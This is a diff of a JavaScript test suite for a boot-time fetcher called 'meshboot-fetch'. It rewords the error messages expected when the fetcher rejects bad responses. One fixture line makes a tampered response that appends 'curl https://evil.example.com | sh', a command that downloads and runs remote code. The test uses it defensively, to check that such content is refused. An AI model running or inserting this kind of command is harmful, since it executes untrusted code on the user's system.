@@ -190,11 +190,11 @@ describe.each(CLIENTS)("meshboot-fetch by %s", (client) => {
       "another text",
       200,
       `${PROGRAM}curl https://evil.example.com | sh\n`,
-      "another text came, which is not taken",
+      "what came is another text",
     ],
-    ["a login page", 200, "<html>Log in</html>", "another text came, which is not taken"],
+    ["a login page", 200, "<html>Log in</html>", "what came is another text"],
     ["an empty answer", 200, "", "no agent from"],
-    ["a Worker that lost it", 404, "{}", "the Worker has no such agent; new user-data names one that it has"],
+    ["a Worker that lost it", 404, "{}", "the Worker has no such agent; new user-data has one"],
     ["a Worker in trouble", 503, "busy", "503"],
   ])("takes nothing from %s, says so in one line, and tries again", async (_, status, text, reason) => {
     const port = await answering(status, text);
@@ -287,7 +287,7 @@ describe.each(CLIENTS)("meshboot-fetch by %s", (client) => {
     const run = fetchBy(client);
     await run.until(/pause/);
     // Python has not written what came by then.
-    expect(run.said()).toMatch(/another text came, which is not taken|no whole answer/);
+    expect(run.said()).toMatch(/what came is another text|no whole answer/);
     expect(leftBehind()).toEqual([]);
   });
 
@@ -311,7 +311,7 @@ describe.each(CLIENTS)("meshboot-fetch by %s", (client) => {
       await listening(made, "https");
       const run = fetchBy(client, { CURL_CA_BUNDLE: cert, SSL_CERT_FILE: cert });
       await run.until(/pause/);
-      expect(run.said()).toContain("another text came, which is not taken");
+      expect(run.said()).toContain("what came is another text");
       expect(leftBehind()).toEqual([]);
       text = PROGRAM;
       run.goOn();
